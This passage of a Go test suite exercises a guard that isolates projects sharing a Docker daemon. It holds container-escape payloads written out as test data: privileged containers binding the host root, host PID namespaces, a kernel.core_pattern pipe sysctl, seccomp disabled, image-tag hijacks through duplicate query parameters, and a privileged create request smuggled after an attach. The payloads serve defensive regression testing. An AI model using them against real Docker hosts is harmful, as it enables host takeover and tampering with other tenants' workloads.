		ct := ""
		if c.body != nil {
			ct = "application/x-tar"
		}
		status, out := send(t, alpha, http.MethodPost, c.path, ct, c.body)
		if got, ok := fileInImage(t, daemon(t), "alpha/ssrf", "/credentials"); ok {
			out = "alpha's image holds /credentials=" + strings.TrimSpace(got)
		}
		mu.Lock()
		got := hits[before:]
		mu.Unlock()
		if len(got) > 0 {
			t.Errorf("%s: POST %s\nthe daemon fetched %v from the Docker host's loopback %s; the run was told: %d %s", c.name, c.path, got, l.Addr(), status, lastLine(out))
		}
	}
	_, _ = daemon(t).ImageRemove(context.Background(), "alpha/ssrf", image.RemoveOptions{})
}

// TestAttackNetworkSubnetHijacksHostRoutes: a bridge network with a
// subnet of the run's choosing adds a route on the Docker host: traffic
// of the host and of every project's containers to those addresses (the
// metadata service; with the machine's own /30, the registry) goes to
// alpha's bridge.
func TestAttackNetworkSubnetHijacksHostRoutes(t *testing.T) {
	b := bed.Get(t)
	alpha := startGuard(t, "alpha", "run-attack-subnet", api.DockerPolicy{})
	route := func() string {
		out, _ := exec.Command("ip", "-n", b.NetNS, "route", "get", "169.254.169.254").CombinedOutput()
		return strings.TrimSpace(string(out))
	}
	before := route()
	name := fmt.Sprintf("metadata-%d", attackSeq.Add(1))
	out, err := alpha.docker("", "network", "create", "--subnet", "169.254.169.0/24", "--gateway", "169.254.169.1", name)
	if err != nil {
		return
	}
	if after := route(); after != before && strings.Contains(after, " dev br-") {
		t.Errorf("docker network create --subnet 169.254.169.0/24 (%s)\nthe Docker host's route to the metadata address went from %q to %q",
			strings.TrimSpace(out), before, after)
	}
}

// TestAttackPortBindingListensOnTheDockerHost: PortBindings are
// forwarded as they are: the daemon listens on the Docker host's own
// addresses, loopback included, for alpha's container (with the default
// userland proxy, docker-proxy forwards what arrives there to it): alpha
// takes a host port a host service or another project's client expects
// (127.0.0.1:2375 here) and receives what is sent to it.
func TestAttackPortBindingListensOnTheDockerHost(t *testing.T) {
	b := bed.Get(t)
	alpha := startGuard(t, "alpha", "run-attack-ports", api.DockerPolicy{})
	listening := func() string {
		out, _ := exec.Command("nsenter", "--net=/var/run/netns/"+b.NetNS, "ss", "-ltnH", "sport = :2375").CombinedOutput()
		return strings.TrimSpace(string(out))
	}
	if before := listening(); before != "" {
		t.Skipf("port 2375 is taken on the Docker host already: %s", before)
	}
	netName := fmt.Sprintf("alphaports-%d", attackSeq.Add(1))
	alpha.mustDocker("network", "create", netName)
	out, err := alpha.docker("", "run", "-d", "--network", netName, "-p", "127.0.0.1:2375:80", testbed.BaseImage, "sleep", "600")
	if err != nil {
		return
	}
	if after := listening(); after != "" {
		t.Errorf("docker run -p 127.0.0.1:2375:80 (%s)\nthe Docker host listens for alpha's container: %s", strings.TrimSpace(out), after)
	}
}

// TestAttackManyConnectionsPinGuardMemory: one request's body is bounded
// (1 MiB), but a run opens as many connections as it likes and the guard
// reads each body whole, with no deadline, before it decides: the memory
// of the runner (which serves other runs) grows with the connections.
func TestAttackManyConnectionsPinGuardMemory(t *testing.T) {
	alpha := startGuard(t, "alpha", "run-attack-memory", api.DockerPolicy{})
	const conns, size = 200, 1 << 20
	var ms runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&ms)
	base := ms.HeapAlloc
	chunk := bytes.Repeat([]byte(" "), size-16)
	var open []net.Conn
	defer func() {
		for _, c := range open {
			c.Close()
		}
	}()
	var wg sync.WaitGroup
	for range conns {
		c, err := net.Dial("unix", alpha.socket)
		if err != nil {
			t.Fatal(err)
		}
		open = append(open, c)
		wg.Add(1)
		go func() {
			defer wg.Done()
			_ = c.SetWriteDeadline(time.Now().Add(30 * time.Second))
			fmt.Fprintf(c, "POST /v1.41/containers/create HTTP/1.1\r\nHost: docker\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n{", size)
			_, _ = c.Write(chunk) // the last bytes never come
		}()
	}
	wg.Wait()
	time.Sleep(time.Second)
	runtime.GC()
	runtime.ReadMemStats(&ms)
	grown := int64(ms.HeapAlloc) - int64(base)
	if grown > 64<<20 {
		t.Errorf("%d connections each sending %d bytes of a container configuration, unfinished: the guard holds %d MiB (a run can exhaust the runner's memory)",
			conns, size, grown>>20)
	}
}

// TestAttackBuildLeavesContainersCleanupMisses: the classic builder's
// containers are made by the daemon, without the run's label: those of a
// failed RUN, and with rm=0 all of them (the step of the guard's labels
// included), stay after Cleanup, on the shared host.
func TestAttackBuildLeavesContainersCleanupMisses(t *testing.T) {
	alpha := startGuard(t, "alpha", "run-attack-leftover", api.DockerPolicy{})
	d := daemon(t)
	ctx := context.Background()
	all := func() map[string]container.Summary {
		list, err := d.ContainerList(ctx, container.ListOptions{All: true})
		if err != nil {
			t.Fatal(err)
		}
		m := map[string]container.Summary{}
		for _, c := range list {
			m[c.ID] = c
		}
		return m
	}
	before := all()
	_, _ = alpha.docker("FROM "+testbed.BaseImage+"\nRUN echo leftover-failed && false\n", "build", "-")
	_, _ = alpha.docker("FROM "+testbed.BaseImage+"\nRUN echo leftover-kept\n", "build", "--rm=false", "-")
	if _, err := alpha.g.Cleanup(ctx); err != nil {
		t.Fatal(err)
	}
	var left []string
	for id, c := range all() {
		if _, ok := before[id]; !ok {
			left = append(left, fmt.Sprintf("%s %q labels=%v", id[:12], c.Command, c.Labels))
			_ = d.ContainerRemove(ctx, id, container.RemoveOptions{Force: true})
		}
	}
	if len(left) > 0 {
		t.Errorf("docker build (a failing RUN; --rm=false) then Cleanup: the daemon still holds %v", left)
	}
}

// TestAttackOOMSettingsShieldFromHostOOMKiller: OomScoreAdj -1000 and
// OomKillDisable are forwarded: under memory pressure the host's OOM
// killer then kills other projects' containers and the host's daemons
// instead of alpha's.
func TestAttackOOMSettingsShieldFromHostOOMKiller(t *testing.T) {
	alpha := startGuard(t, "alpha", "run-attack-oom", api.DockerPolicy{})
	d := daemon(t)
	body := fmt.Sprintf(`{"Image":%q,"Cmd":["true"],"HostConfig":{"OomScoreAdj":-1000,"OomKillDisable":true}}`, testbed.BaseImage)
	id, _ := createRaw(t, alpha, body)
	if id == "" {
		return
	}
	info, err := d.ContainerInspect(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}
	killDisabled := info.HostConfig.OomKillDisable != nil && *info.HostConfig.OomKillDisable
	if info.HostConfig.OomScoreAdj < 0 || killDisabled {
		t.Errorf("POST /containers/create %s\nthe daemon holds OomScoreAdj=%d OomKillDisable=%v", body, info.HostConfig.OomScoreAdj, killDisabled)
	}
}

// ----------------------------------------------------------------------
// Attacks the guard stops (regression tests: each asserts the daemon's
// state, so it fails if the guard lets them through).

// TestAttackHeldCreateDifferentials: container configurations written
// for dockerd's decoder rather than the guard's.
func TestAttackHeldCreateDifferentials(t *testing.T) {
	beta := startBeta(t)
	alpha := startGuard(t, "alpha", "run-attack-held-create", api.DockerPolicy{})
	d := daemon(t)
	ctx := context.Background()
	img := testbed.BaseImage
	short := beta.id[:12]
	corePattern, _ := os.ReadFile("/proc/sys/kernel/core_pattern")
	t.Cleanup(func() {
		if now, _ := os.ReadFile("/proc/sys/kernel/core_pattern"); !bytes.Equal(now, corePattern) {
			t.Errorf("the host's kernel.core_pattern changed to %q", now)
			_ = os.WriteFile("/proc/sys/kernel/core_pattern", corePattern, 0o644)
		}
	})
	hostVol := fmt.Sprintf("hostetc-%d", attackSeq.Add(1))
	t.Cleanup(func() { _ = d.VolumeRemove(context.Background(), hostVol, true) })
	cases := []struct{ name, body string }{
		{"HostConfig null, host settings at the top", `{"Image":"` + img + `","HostConfig":null,"Privileged":true,"Binds":["/:/host"],"PidMode":"host"}`},
		{"hostconfig in two spellings", `{"Image":"` + img + `","HostConfig":{"Privileged":false},"hostConfig":{"Privileged":true}}`},
		{"mount type in capitals", `{"Image":"` + img + `","HostConfig":{"Mounts":[{"Type":"BIND","Source":"/etc","Target":"/x"}]}}`},
		{"bind with a space", `{"Image":"` + img + `","HostConfig":{"Binds":[" /etc:/x"]}}`},
		{"bind of a relative path", `{"Image":"` + img + `","HostConfig":{"Binds":["./etc:/x"]}}`},
		{"volume bound by driver options", `{"Image":"` + img + `","HostConfig":{"Mounts":[{"Type":"volume","Source":"` + hostVol + `","Target":"/x","VolumeOptions":{"DriverConfig":{"Name":"local","Options":{"type":"none","o":"bind","device":"/etc"}}}}]}}`},
		{"volume of another project by mount", `{"Image":"` + img + `","HostConfig":{"Mounts":[{"Type":"volume","Source":"` + beta.volume + `","Target":"/data"}]}}`},
		{"non-namespaced sysctl", `{"Image":"` + img + `","HostConfig":{"Sysctls":{"kernel.core_pattern":"|/tmp/jetway-attack"}}}`},
		{"cap in lower case", `{"Image":"` + img + `","HostConfig":{"CapAdd":["cap_sys_admin"]}}`},
		{"cap with a space", `{"Image":"` + img + `","HostConfig":{"CapAdd":[" SYS_ADMIN"]}}`},
		{"seccomp, old syntax", `{"Image":"` + img + `","HostConfig":{"SecurityOpt":["seccomp:unconfined"]}}`},
		{"label disable", `{"Image":"` + img + `","HostConfig":{"SecurityOpt":["label=disable"]}}`},
		{"pid of beta by ID prefix", `{"Image":"` + img + `","HostConfig":{"PidMode":"container:` + short + `"}}`},
		{"ipc of beta by ID prefix", `{"Image":"` + img + `","HostConfig":{"IpcMode":"container:` + short + `"}}`},
		{"network of beta by ID prefix", `{"Image":"` + img + `","HostConfig":{"NetworkMode":"container:` + short + `"}}`},
		{"cgroup of beta by ID prefix", `{"Image":"` + img + `","HostConfig":{"Cgroup":"container:` + short + `"}}`},
		{"volumes of beta by ID prefix", `{"Image":"` + img + `","HostConfig":{"VolumesFrom":["` + short + `:ro"]}}`},
		{"link to beta by ID prefix", `{"Image":"` + img + `","HostConfig":{"Links":["/` + short + `:b"]}}`},
		{"endpoint link to beta", `{"Image":"` + img + `","NetworkingConfig":{"EndpointsConfig":{"bridge":{"Links":["` + beta.name + `:b"]}}}}`},
		{"beta's network by key", `{"Image":"` + img + `","HostConfig":{"NetworkMode":"` + beta.network + `"}}`},
		{"device cgroup rule", `{"Image":"` + img + `","HostConfig":{"DeviceCgroupRules":["b *:* rwm"]}}`},
		{"masked paths emptied", `{"Image":"` + img + `","HostConfig":{"MaskedPaths":[],"ReadonlyPaths":[]}}`},
		{"userns host in capitals", `{"Image":"` + img + `","HostConfig":{"UsernsMode":"HOST"}}`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			id, _ := createRaw(t, alpha, c.body)
			if id == "" {
				return
			}
			startRaw(t, alpha, id)
			info, err := d.ContainerInspect(ctx, id)
			if err != nil {
				t.Fatal(err)
			}
			hc := info.HostConfig
			var bad []string
			if hc.Privileged {
				bad = append(bad, "privileged")
			}
			if hc.PidMode.IsHost() || hc.PidMode.IsContainer() || hc.IpcMode.IsHost() || hc.IpcMode.IsContainer() || hc.NetworkMode.IsContainer() || hc.Cgroup.IsContainer() || hc.UsernsMode.IsHost() {
				bad = append(bad, fmt.Sprintf("namespaces pid=%q ipc=%q net=%q cgroup=%q userns=%q", hc.PidMode, hc.IpcMode, hc.NetworkMode, hc.Cgroup, hc.UsernsMode))
			}
			if len(hc.CapAdd) > 0 || len(hc.DeviceCgroupRules) > 0 || len(hc.SecurityOpt) > 0 || len(hc.VolumesFrom) > 0 || len(hc.Links) > 0 {
				bad = append(bad, fmt.Sprintf("caps=%v rules=%v secopt=%v volumesFrom=%v links=%v", hc.CapAdd, hc.DeviceCgroupRules, hc.SecurityOpt, hc.VolumesFrom, hc.Links))
			}
			if hc.MaskedPaths != nil && len(hc.MaskedPaths) == 0 {
				bad = append(bad, "no masked paths")
			}
			for _, m := range info.Mounts {
				if m.Type == "bind" || m.Name == beta.volume {
					bad = append(bad, fmt.Sprintf("mount %s %s", m.Type, m.Source))
				}
			}
			for name := range info.NetworkSettings.Networks {
				if name == beta.network {
					bad = append(bad, "on beta's network")
				}
			}
			if v, err := d.VolumeInspect(ctx, hostVol); err == nil && len(v.Options) > 0 {
				bad = append(bad, fmt.Sprintf("volume %s with options %v", hostVol, v.Options))
			}
			if len(bad) > 0 {
				t.Errorf("POST /containers/create %s\nthe daemon holds: %s", c.body, strings.Join(bad, "; "))
			}
		})
	}
}

// TestAttackHeldQueryDifferentials: duplicate, semicolon-separated and
// conflicting query parameters on the endpoints that tag.
func TestAttackHeldQueryDifferentials(t *testing.T) {
	beta := startBeta(t)
	alpha := startGuard(t, "alpha", "run-attack-held-query", api.DockerPolicy{})
	d := daemon(t)
	orig := keepBaseImage(t, d)
	betas := imageID(t, d, beta.img)
	own := alpha.mustDocker("create", testbed.BaseImage, "true")
	// A source of alpha's that is not the base image, for the tags.
	if out, err := alpha.docker("FROM "+testbed.BaseImage+"\nLABEL jetway.attack=held\n", "build", "-q", "-t", "alpha/held:1", "-"); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	t.Cleanup(func() {
		list, _ := d.ImageList(context.Background(), image.ListOptions{Filters: filters.NewArgs(filters.Arg("reference", "alpha/*"))})
		for _, img := range list {
			for _, ref := range img.RepoTags {
				if strings.HasPrefix(ref, "alpha/ok") || strings.HasPrefix(ref, "alpha/held") {
					_, _ = d.ImageRemove(context.Background(), ref, image.RemoveOptions{})
				}
			}
		}
	})
	repo, tag, _ := strings.Cut(beta.img, ":")
	dockerfile := map[string]string{"Dockerfile": "FROM " + testbed.BaseImage + "\nLABEL jetway.attack=1\n"}
	outputs := `[{"Type":"moby","Attrs":{"name":"alpha/ok","name":"` + beta.img + `"}}]`
	for _, c := range []struct {
		name, method, path string
		body               []byte
	}{
		{"build, t twice", "POST", "/v1.41/build?t=alpha/ok&t=" + url.QueryEscape(beta.img), tarOf(t, dockerfile)},
		{"build, t after a semicolon", "POST", "/v1.41/build?t=alpha/ok;t=" + url.QueryEscape(beta.img), tarOf(t, dockerfile)},
		{"build, outputs with a duplicate key", "POST", "/v1.41/build?version=2&networkmode=none&outputs=" + url.QueryEscape(outputs), tarOf(t, dockerfile)},
		{"build, output attribute in capitals", "POST", "/v1.41/build?version=2&networkmode=none&outputs=" + url.QueryEscape(`[{"Type":"image","Attrs":{"NAME":"`+beta.img+`"}}]`), tarOf(t, dockerfile)},
		{"commit, repo twice", "POST", "/v1.41/commit?container=" + own + "&repo=alpha/ok&repo=" + url.QueryEscape(repo) + "&tag=" + tag, nil},
		{"commit, repo with the tag", "POST", "/v1.41/commit?container=" + own + "&repo=" + url.QueryEscape(beta.img), nil},
		{"tag, repo twice", "POST", "/v1.41/images/alpha/held:1/tag?repo=alpha/ok&repo=" + url.QueryEscape(repo) + "&tag=" + tag, nil},
		{"tag, repo with its tag", "POST", "/v1.41/images/alpha/held:1/tag?repo=" + url.QueryEscape(beta.img), nil},
		{"tag over the base image", "POST", "/v1.41/images/alpha/held:1/tag?repo=docker.io/jetway-testbed/busybox&tag=latest", nil},
		{"tag over the base image, index path", "POST", "/v1.41/images/alpha/held:1/tag?repo=index.docker.io/jetway-testbed/busybox", nil},
		{"import, repo twice", "POST", "/v1.41/images/create?fromSrc=-&repo=alpha/ok&repo=" + url.QueryEscape(repo) + "&tag=" + tag, tarOf(t, map[string]string{"x": "x"})},
		{"pull with tag into another name", "POST", "/v1.41/images/create?fromImage=alpha/ok&tag=" + url.QueryEscape("1 "+beta.img), nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			ct := ""
			if c.body != nil {
				ct = "application/x-tar"
			}
			send(t, alpha, c.method, c.path, ct, c.body)
			if now := imageID(t, d, beta.img); now != betas {
				t.Errorf("%s %s: beta's %s went from %s to %s", c.method, c.path, beta.img, betas, now)
				_ = d.ImageTag(context.Background(), betas, beta.img)
			}
			if now := imageID(t, d, testbed.BaseImage); now != orig {
				t.Errorf("%s %s: the base image went from %s to %s", c.method, c.path, orig, now)
			}
		})
	}
}

// TestAttackHeldObjectNames: removing images by ID prefix, digest and
// names that hold /json; exec IDs of another project.
func TestAttackHeldObjectNames(t *testing.T) {
	beta := startBeta(t)
	alpha := startGuard(t, "alpha", "run-attack-held-names", api.DockerPolicy{})
	d := daemon(t)
	ctx := context.Background()
	orig := keepBaseImage(t, d)
	hexID := strings.TrimPrefix(orig, "sha256:")
	for _, p := range []string{
		"/v1.41/images/" + hexID[:12] + "?force=1",
		"/v1.41/images/sha256:" + hexID + "?force=1",
		"/v1.41/images/" + hexID + "?force=1&noprune=1",
		"/v1.41/images/" + beta.img + "?force=1",
		"/v1.41/images/docker.io/" + beta.img,
	} {
		send(t, alpha, http.MethodDelete, p, "", nil)
		if imageID(t, d, testbed.BaseImage) != orig || imageID(t, d, beta.img) == "" {
			t.Errorf("DELETE %s removed the base image or beta's", p)
		}
	}
	// An image whose every name is alpha's, but which is beta's too by ID.
	alpha.mustDocker("tag", testbed.BaseImage, "alpha/alias:1")
	send(t, alpha, http.MethodDelete, "/v1.41/images/alpha/alias:1?force=1", "", nil)
	if imageID(t, d, testbed.BaseImage) != orig || imageID(t, d, beta.img) == "" {
		t.Error("DELETE /images/alpha/alias:1?force=1 removed the image under the other names")
	}

	ex, err := d.ContainerExecCreate(ctx, beta.id, container.ExecOptions{Cmd: []string{"sh", "-c", "echo started > /tmp/started"}})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"/v1.41/exec/" + ex.ID + "/start", "/v1.41/exec/" + ex.ID[:12] + "/start"} {
		send(t, alpha, http.MethodPost, p, "application/json", []byte(`{"Detach":true}`))
	}
	if info, err := d.ContainerExecInspect(ctx, ex.ID); err != nil || info.Pid != 0 || info.Running {
		t.Errorf("alpha started beta's exec %s: %+v %v", ex.ID, info, err)
	}
	if status, out := send(t, alpha, http.MethodGet, "/v1.41/exec/"+ex.ID+"/json", "", nil); strings.Contains(out, beta.id) {
		t.Errorf("GET /exec/{beta's}/json: %d %s", status, out)
	}
}

// TestAttackHeldHijackedStreams: bytes sent after an upgrade are the
// stream's, never a request of their own.
func TestAttackHeldHijackedStreams(t *testing.T) {
	alpha := startGuard(t, "alpha", "run-attack-held-hijack", api.DockerPolicy{})
	d := daemon(t)
	id := alpha.mustDocker("create", "-i", testbed.BaseImage, "cat")
	alpha.mustDocker("start", id)
	privileged := fmt.Sprintf(`{"Image":%q,"Labels":{"jetway.attack":"smuggled"},"HostConfig":{"Privileged":true,"Binds":["/:/host"]}}`, testbed.BaseImage)
	smuggled := fmt.Sprintf("POST /v1.41/containers/create HTTP/1.1\r\nHost: docker\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(privileged), privileged)
	for _, first := range []string{
		fmt.Sprintf("POST /v1.41/containers/%s/attach?stream=1&stdin=1&stdout=1 HTTP/1.1\r\nHost: docker\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\n", id),
		fmt.Sprintf("POST /v1.41/containers/%s/attach?stream=1&stdin=1&stdout=1 HTTP/1.1\r\nHost: docker\r\n\r\n", id),
	} {
		c, err := net.Dial("unix", alpha.socket)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = io.WriteString(c, first+smuggled)
		_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
		_, _ = io.ReadAll(bufio.NewReader(c))
		c.Close()
	}
	list, err := d.ContainerList(context.Background(), container.ListOptions{All: true, Filters: filters.NewArgs(filters.Arg("label", "jetway.attack=smuggled"))})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range list {
		info, _ := d.ContainerInspect(context.Background(), c.ID)
		if info.HostConfig.Privileged || len(info.HostConfig.Binds) > 0 {
			t.Errorf("a create smuggled after an attach made %s privileged=%v binds=%v", c.ID[:12], info.HostConfig.Privileged, info.HostConfig.Binds)
		}
	}
}

// TestAttackHeldScopedListsAndPrunes: filters that widen a list, events
// of another project, prunes.
func TestAttackHeldScopedListsAndPrunes(t *testing.T) {
	beta := startBeta(t)
	alpha := startGuard(t, "alpha", "run-attack-held-lists", api.DockerPolicy{})
	d := daemon(t)
	ctx := context.Background()
	stopped := beta.gd.mustDocker("create", testbed.BaseImage, "true")
	unused := fmt.Sprintf("betaunused-%d", attackSeq.Add(1))
	beta.gd.mustDocker("volume", "create", unused)
	t.Cleanup(func() { _ = d.VolumeRemove(context.Background(), unused, true) })

	evCtx, cancel := context.WithCancel(ctx)
	defer cancel()
	c, err := client.NewClientWithOpts(client.WithHost("unix://"+alpha.socket), client.WithVersion("1.41"))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	msgs, _ := c.Events(evCtx, events.ListOptions{Filters: filters.NewArgs(filters.Arg("label", LabelProject+"=beta"), filters.Arg("container", beta.id))})
	var seen []string
	var mu sync.Mutex
	go func() {
		for {
			select {
			case m := <-msgs:
				mu.Lock()
				seen = append(seen, string(m.Action)+" "+m.Actor.ID)
				mu.Unlock()
			case <-evCtx.Done():
				return
			}
		}
	}()

	for _, q := range []string{
		"all=1",
		"all=1&filters=" + url.QueryEscape(`{"label":{"dev.jetway.project=beta":true}}`),
		"all=1&filters=" + url.QueryEscape(`{"id":{"`+beta.id+`":true}}`),
		"all=1&filters=" + url.QueryEscape(`{"name":{"`+beta.name+`":true}}`),
		"all=1&filters=" + url.QueryEscape(`{"label!":{"dev.jetway.project=alpha":true}}`),
		"all=1&filters=" + url.QueryEscape(`{"label":["dev.jetway.project=beta"]}`) + "&filters=" + url.QueryEscape(`{}`),
	} {
		if _, out := send(t, alpha, http.MethodGet, "/v1.41/containers/json?"+q, "", nil); strings.Contains(out, beta.id[:12]) || strings.Contains(out, betaEnvSecret) {
			t.Errorf("GET /containers/json?%s lists beta's container", q)
		}
	}
	if _, out := send(t, alpha, http.MethodGet, "/v1.41/volumes?filters="+url.QueryEscape(`{"name":{"`+beta.volume+`":true}}`), "", nil); strings.Contains(out, beta.volume) {
		t.Errorf("GET /volumes lists beta's volume: %s", out)
	}
	if _, out := send(t, alpha, http.MethodGet, "/v1.41/networks?filters="+url.QueryEscape(`{"name":{"`+beta.network+`":true}}`), "", nil); strings.Contains(out, beta.network) {
		t.Errorf("GET /networks lists beta's network: %s", out)
	}
	for _, p := range []string{
		"/v1.41/containers/prune",
		"/v1.41/containers/prune?filters=" + url.QueryEscape(`{"label":{"dev.jetway.project=beta":true}}`),
		"/v1.41/volumes/prune",
		"/v1.41/volumes/prune?filters=" + url.QueryEscape(`{"label!":{"dev.jetway.project=alpha":true}}`),
		"/v1.41/networks/prune",
	} {
		send(t, alpha, http.MethodPost, p, "", nil)
	}
	beta.gd.mustDocker("restart", "-t", "1", beta.name)
	time.Sleep(time.Second)
	cancel()
	if _, err := d.ContainerInspect(ctx, stopped); err != nil {
		t.Errorf("alpha's prune removed beta's stopped container: %v", err)
	}
	if _, err := d.VolumeInspect(ctx, unused); err != nil {
		t.Errorf("alpha's prune removed beta's volume: %v", err)
	}
	if _, err := d.NetworkInspect(ctx, beta.network, network.InspectOptions{}); err != nil {
		t.Errorf("alpha's prune removed beta's network: %v", err)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(seen) > 0 {
		t.Errorf("alpha's event stream shows beta's container: %v", seen)
	}
}

// listenInNetns listens on the loopback of a network namespace (the Docker
// host's own, in the bed): a service only the host itself reaches.
func listenInNetns(t *testing.T, netns string) net.Listener {
	t.Helper()
	l, err := testbed.ListenIn(netns, "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	return l
}
